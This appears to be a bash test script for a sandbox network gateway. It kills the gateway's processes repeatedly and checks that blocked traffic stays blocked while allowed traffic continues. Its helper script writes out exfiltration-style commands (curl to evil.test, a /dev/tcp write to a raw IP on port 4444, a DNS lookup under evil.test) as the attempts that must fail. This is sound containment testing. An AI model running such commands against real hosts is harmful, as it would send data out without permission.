#!/usr/bin/env bash
# I1: each process of the gateway is killed while the jar runs. Nothing fails open: what is denied stays denied while it is gone and
# after; and what is allowed goes on, with the address and the trust that the program has already. Killed over and over, nothing
# leaves any more.
source "$(dirname "${BASH_SOURCE[0]}")/../lib.sh"
allow allowed.test
cat > try.sh <<'CODE'
# try.sh WORD: by every way out, at once.
curl -sS -m 9 https://allowed.test/$1 & curl -sS -m 9 http://allowed.test/$1 & curl -sSk -m 9 https://evil.test/$1 &
curl -sS -m 9 --resolve "allowed.test:443:$(cat address)" https://allowed.test/$1-by-address &
curl -sS -m 9 http://93.184.216.12/$1 & timeout 5 bash -c "echo $1 > /dev/tcp/93.184.216.12/4444" & getent hosts $1.evil.test & wait
CODE
for victim in egress scan proxy ledger; do
    JAR="killed-$victim"
    start_jar "
        curl -sS -m 5 https://allowed.test/$victim-lives > first; getent ahostsv4 allowed.test | awk '{print \$1; exit}' > address; touch first-done
        until [ -e killed ]; do sleep 0.05; done
        . ./try.sh $victim-dead
        touch second-done; sleep 60"
    wait_for 20 test -e first-done
    receiver_got allowed "GET /$victim-lives"  # the control: it worked before
    # While all of them die again and again, the attempts run.
    touch killed
    for _ in 1 2 3; do
        pids=$(gateway_process "$victim") || continue
        # shellcheck disable=SC2086
        kill -KILL $pids 2>/dev/null || true
        sleep 0.05
    done
    wait_for 20 test -e second-done
    for name in evil evil-raw dns; do receiver_silent "$name" "$victim-dead"; done
    # Quiet again, the program goes on with what it has: its authorities, and the addresses that it was given.
    wait_for 10 gateway_process "$victim"
    rm -f second-done
    "$BELLJAR" exec "$JAR" bash -c ". ./try.sh $victim-after" </dev/null >/dev/null 2>&1 || true
    receiver_got allowed "GET /$victim-after"
    receiver_got allowed "GET /$victim-after-by-address"
    for name in evil evil-raw dns; do receiver_silent "$name" "$victim-after"; done
    # Over and over: given up, told, and closed.
    absent=0 deadline=$((SECONDS + 40))
    until [ "$absent" -ge 40 ]; do
        [ "$SECONDS" -lt "$deadline" ] || fail "belljar-$victim is started again and again"
        if pids=$(gateway_process "$victim"); then
            # shellcheck disable=SC2086
            kill -KILL $pids 2>/dev/null || true
            absent=0
        fi
        absent=$((absent + 1))
        sleep 0.1
    done
    "$BELLJAR" exec "$JAR" bash -c ". ./try.sh $victim-given-up" </dev/null >/dev/null 2>&1 || true
    for name in allowed evil evil-raw dns; do receiver_silent "$name" "$victim-given-up"; done
    [ "$victim" = ledger ] || wait_for 5 sh -c "'$BELLJAR' log $JAR --limit 1000 | grep -q 'nothing leaves the jar until its next start'"
    end_jars
    rm -f first first-done second-done killed address
done
